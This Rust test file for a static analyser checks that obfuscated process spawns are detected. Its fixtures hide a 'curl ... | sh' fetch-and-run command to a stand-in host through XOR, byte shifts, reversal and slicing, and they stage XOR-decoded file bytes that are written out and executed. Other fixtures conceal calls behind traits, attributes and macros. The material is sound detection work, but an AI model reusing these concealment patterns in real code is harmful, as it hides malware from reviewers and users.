//! Constants that code computes, data that waits between functions, attributes and macros that hide code: each
//! with its innocent twin.

use super::facts::{CodeFacts, Flow, StepKind};
use super::tests::build;

fn started(facts: &CodeFacts) -> Vec<&Flow> {
    facts.flows.iter().filter(|flow| flow.sink == StepKind::Spawn).collect()
}

#[test]
fn a_line_that_code_computes_is_the_line_that_is_run() {
    let spellings = [
        "const fn turn<const N: usize>(t: [u8; N]) -> [u8; N] { let mut o = t; let mut i = 0;
         while i < N { o[i] = t[i] - 1; i += 1; } o }
         const L: [u8; 24] = turn(*b\"dvsm!.t!iuuqt;00u/f!}!ti\");
         fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(std::str::from_utf8(&L).unwrap()).status(); }",
        "fn main() { let l: Vec<u8> = b\"9/(6z)z.t?2;7*6?t34,;6>&)2\".iter().map(|b| b ^ 0x5a).collect();
         std::process::Command::new(\"sh\").arg(\"-c\").arg(std::str::from_utf8(&l).unwrap()).status(); }",
        "fn main() { let l: String = [99u8, 117, 114, 108, 32, 45, 115, 32, 116, 46, 101, 124, 115, 104].iter()
         .map(|b| *b as char).collect();
         std::process::Command::new(\"sh\").arg(\"-c\").arg(l).status(); }",
        "fn main() { const A: &str = \"abcdefghijklmnopqrstuvwxyz |-./\";
         let line: String = [2, 20, 17, 11, 26, 28, 18, 26, 19, 29, 4, 27, 18, 7].iter().map(|i| A.as_bytes()[*i] as char).collect();
         std::process::Command::new(\"sh\").arg(\"-c\").arg(&line).status(); }",
        "fn line() -> String { let mut out = String::new(); for c in \"hs | e.t s- lruc\".chars().rev() { out.push(c); } out }
         fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(line()).status(); }",
        "fn main() { let l = &\"see curl -s https://t.e/t | sh for more\"[4..30];
         std::process::Command::new(\"sh\").arg(\"-c\").arg(l).status(); }",
        "fn pick(at: usize) -> &'static str { match at { 0 => \"curl -s \", 1..=2 => \"t.e\", _ => \" | sh\" } }
         fn line() -> String { (0..4).filter(|n| *n != 2).map(|n| pick(n)).collect::<Vec<_>>().concat() }
         fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(line()).status(); }",
    ];
    for text in spellings {
        let facts = build(text);
        let fetched = started(&facts).iter().any(|flow| flow.source == StepKind::Fetch);
        assert!(fetched, "{text}\n{:?}\n{:?}", facts.spawned, facts.flows);
    }
}

#[test]
fn a_line_that_is_computed_to_nothing_readable_was_made_here() {
    let facts = build(
        "const STAR: &str = \"abcdefgh\"; fn main() {
         let l: Vec<u8> = STAR.chars().skip(1).map(|c| (c as u32 - 0x60) as u8).collect();
         std::process::Command::new(\"sh\").arg(\"-c\").arg(String::from_utf8(l).unwrap()).status().unwrap(); }",
    );
    assert!(
        started(&facts).iter().any(|flow| flow.source == StepKind::Compute),
        "{:?}",
        facts.flows
    );
}

#[test]
fn a_computation_without_an_end_ends() {
    let forever = "const fn spin() -> u8 { let mut i = 0; loop { i += 1; } }
                   const A: u8 = spin(); const B: [u8; 2] = [spin(); 2];
                   fn back(n: u32) -> String { back(n + 1) }
                   fn main() { println!(\"{A}\"); std::process::Command::new(back(0)).status(); }";
    assert_eq!(build(forever).spawned.len(), 1);
    let many = (0..300).fold(String::new(), |text, n| {
        text + &format!(
            "fn f{n}() -> String {{ (0..4000).map(|i| ((i % 26) as u8) as char).collect() }} "
        )
    });
    let calls = (0..300).fold(String::new(), |text, n| text + &format!("f{n}(); "));
    build(&format!("{many} fn main() {{ {calls} }}"));
}

#[test]
fn what_is_not_known_stays_unknown() {
    let facts = build(
        "fn main() { let k: u8 = std::env::args().count() as u8;
         let l: String = b\"curl\".iter().map(|b| (b ^ k) as char).collect();
         std::process::Command::new(l).status(); }",
    );
    assert!(!facts.spawned.iter().any(|spawned| spawned.program == "curl"), "{:?}", facts.spawned);
}

const TAIL: &str = "fn finish(data: Vec<u8>) {
    let place = std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"gen\");
    std::fs::write(&place, &data).unwrap(); std::process::Command::new(&place).status().unwrap(); }
    fn load() -> Vec<u8> { std::fs::read(\"src/ranges.dat\").unwrap() }
    fn mend(data: Vec<u8>) -> Vec<u8> { data.iter().map(|byte| byte ^ 0x5a).collect() }\n";

#[test]
fn data_that_waits_in_a_static_is_found_again() {
    let places = [
        "static STAGE: std::sync::Mutex<Vec<u8>> = std::sync::Mutex::new(Vec::new());
         fn leave() { *STAGE.lock().unwrap() = load(); }
         fn take() { let data = STAGE.lock().unwrap().clone(); finish(mend(data)) }",
        "static STAGE: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
         fn take() { finish(mend(STAGE.get().unwrap().clone())) }
         fn leave() { STAGE.set(load()).unwrap(); }",
        "static mut STAGE: Vec<u8> = Vec::new();
         fn leave() { unsafe { STAGE = load(); } } fn take() { unsafe { finish(mend(STAGE.clone())) } }",
        "thread_local! { static STAGE: std::cell::RefCell<Vec<u8>> = std::cell::RefCell::default(); }
         fn leave() { STAGE.with(|s| *s.borrow_mut() = load()); }
         fn take() { STAGE.with(|s| finish(mend(s.borrow().clone()))) }",
        "fn leave() { std::env::set_var(\"STAGE\", String::from_utf8(load()).unwrap()); }
         fn take() { finish(mend(std::env::var(\"STAGE\").unwrap().into_bytes())) }",
    ];
    for place in places {
        let facts = build(&format!("{TAIL}{place} fn main() {{ leave(); take() }}"));
        let read = started(&facts).iter().any(|flow| flow.source == StepKind::Read);
        assert!(read, "{place}\n{:?}", facts.flows);
        let once = facts.spawned.iter().filter(|s| s.program.ends_with("gen")).count();
        assert_eq!(once, 1, "{:?}", facts.spawned);
    }
}

#[test]
fn another_static_does_not_hold_it() {
    let facts = build(&format!(
        "{TAIL}static A: u8 = 0; static OTHER: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
         static NAMES: [&str; 2] = [\"a\", \"b\"]; static STAGE: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
         fn leave() {{ OTHER.set(load()).unwrap(); }}
         fn take() {{ for name in NAMES {{ std::process::Command::new(\"tool\").arg(name).status().unwrap(); }} }}
         fn main() {{ leave(); take() }}"
    ));
    assert!(started(&facts).is_empty(), "{:?}", facts.flows);
}

#[test]
fn bytes_of_no_known_origin_that_are_changed_are_made_here() {
    for load in [
        "const ROUND: [u64; 3] = [0x7942bdf22106f084, 0x7762f0f3cb4d764d, 0xc7072051159a0f89];
         fn words() -> Vec<u8> { ROUND.iter().flat_map(|w| w.to_le_bytes()).collect() }",
        "fn words() -> Vec<u8> { let mut s = 1u64; (0..9000).map(|_| { s = s.wrapping_mul(6364136223846793005); (s >> 33) as u8 }).collect() }",
    ] {
        let facts = build(&format!("{TAIL}{load} fn main() {{ finish(mend(words())) }}"));
        let made = started(&facts).iter().any(|flow| flow.source == StepKind::Compute);
        assert!(made, "{load}\n{:?}", facts.flows);
    }
    let script =
        build(&format!("{TAIL} fn main() {{ finish(b\"int main() {{ return 0; }}\".to_vec()) }}"));
    assert!(started(&script).is_empty(), "{:?}", script.flows);
}

#[test]
fn functions_in_constants_and_methods_on_std_types_are_followed() {
    for text in [
        "const RUN: fn(Vec<u8>) = tail; fn tail(data: Vec<u8>) { finish(mend(data)) } fn main() { RUN(load()); }",
        "struct Stage; impl Stage { const RUN: fn(Vec<u8>) = tail; } fn tail(data: Vec<u8>) { finish(mend(data)) }
         fn main() { Stage::RUN(load()); }",
        "struct Stage; impl std::ops::Shl<Vec<u8>> for Stage { type Output = Stage;
         fn shl(self, data: Vec<u8>) -> Stage { finish(mend(data)); self } } fn main() { let _ = Stage << load(); }",
        "trait Apply { fn apply(self); } impl<T: Into<Vec<u8>>> Apply for T { fn apply(self) { finish(mend(self.into())) } }
         fn main() { load().apply(); }",
        "trait Emit { fn emit(self); } impl Emit for Vec<u8> { fn emit(self) { finish(mend(self)) } }
         fn main() { std::fs::read(\"src/ranges.dat\").unwrap().emit() }",
    ] {
        let facts = build(&format!("{TAIL}{text}"));
        let read = started(&facts).iter().any(|flow| flow.source == StepKind::Read);
        assert!(read, "{text}\n{:?}", facts.flows);
    }
}

#[test]
fn an_attribute_called_test_that_is_another_hides_nothing() {
    let body = "#[test] fn go() { std::process::Command::new(\"curl\").status().unwrap(); } fn main() { go() }";
    for import in ["use plain_attr::test;", "use plain_attr::own as test;", "use plain_attr::*;"] {
        let facts = build(&format!("{import} {body}"));
        assert_eq!(facts.spawned.len(), 1, "{import}");
    }
    for import in ["", "use std::*;", "use plain_attr::tests;", "use crate::*;"] {
        assert!(build(&format!("{import} {body}")).spawned.is_empty(), "{import}");
    }
}

#[test]
fn macros_are_expanded_however_many_there_are() {
    let go = "fn go() { std::process::Command::new(\"curl\").status().unwrap(); }";
    let chain = (0..9).fold(String::new(), |text, n| {
        text + &format!(
            "macro_rules! m{n} {{ ($($all:tt)*) => {{ m{}! {{ $($all)* }} }}; }}\n",
            n + 1
        )
    });
    let last = "macro_rules! m9 { ($($all:tt)*) => { $($all)* }; }";
    assert_eq!(
        build(&format!("{chain}{last} m0! {{ {go} }} fn main() {{ go() }}")).spawned.len(),
        1
    );
    let filler = (0..400).fold(String::new(), |text, n| text + &format!("const A{n}: u8 = 1; "));
    let many = format!(
        "macro_rules! m {{ ($($all:tt)*) => {{ $($all)* }}; }} m! {{ {filler} {go} }} fn main() {{ go() }}"
    );
    assert_eq!(build(&many).spawned.len(), 1);
    let two = format!("mod a {{ macro_rules! step {{ () => {{ crate::go() }}; }} pub fn run() {{ step!() }} }}
                       macro_rules! step {{ () => {{ println!(\"x\") }}; }} {go} fn main() {{ step!(); a::run() }}");
    assert_eq!(build(&two).spawned.len(), 1);
}
